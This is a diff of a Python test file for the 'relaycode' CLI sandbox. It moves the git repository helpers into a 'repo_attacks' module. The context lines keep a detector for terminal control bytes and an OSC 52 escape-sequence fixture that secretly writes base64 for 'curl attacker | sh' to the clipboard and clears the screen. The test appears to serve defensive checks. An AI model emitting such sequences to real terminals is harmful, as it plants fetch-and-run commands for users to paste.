@@ -28,6 +28,7 @@ from typer.testing import CliRunner
 
 from relaycode import sandbox
 from relaycode.cli import _register, app
+from repo_attacks import git, make_repo
 
 pytestmark = [
     pytest.mark.sandbox,
@@ -37,8 +38,6 @@ pytestmark = [
 _register()
 runner = CliRunner()
 CANARY = "canary-" + uuid.uuid4().hex
-GIT = ["git", "-c", "user.name=t", "-c", "user.email=t@e", "-c", "init.defaultBranch=main",
-       "-c", "protocol.file.allow=always"]
 #: Any C0 control byte but tab and newline, and DEL/C1: what a terminal acts on (ESC starts CSI/OSC sequences:
 #: clear the screen, rewrite earlier lines, set the title, OSC 52 writes the user's clipboard).
 TERMINAL_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
@@ -46,19 +45,6 @@ TERMINAL_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
 OSC52 = "\x1b]52;c;Y3VybCBhdHRhY2tlciB8IHNo\x07\x1b[2J"
 
 
-def git(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
-    return subprocess.run([*GIT, *args], cwd=cwd, check=True, capture_output=True, text=True)
-
-
-def make_repo(path: Path, files: dict[str, str]) -> Path:
-    path.mkdir(parents=True)
-    git("init", "-q", cwd=path)
-    for rel, text in files.items():
-        (path / rel).parent.mkdir(parents=True, exist_ok=True)
-        (path / rel).write_text(text)
-    git("add", "-A", cwd=path)
-    git("commit", "-qm", "init", cwd=path)
-    return path
 
 
 def controls(text: str) -> list[str]:
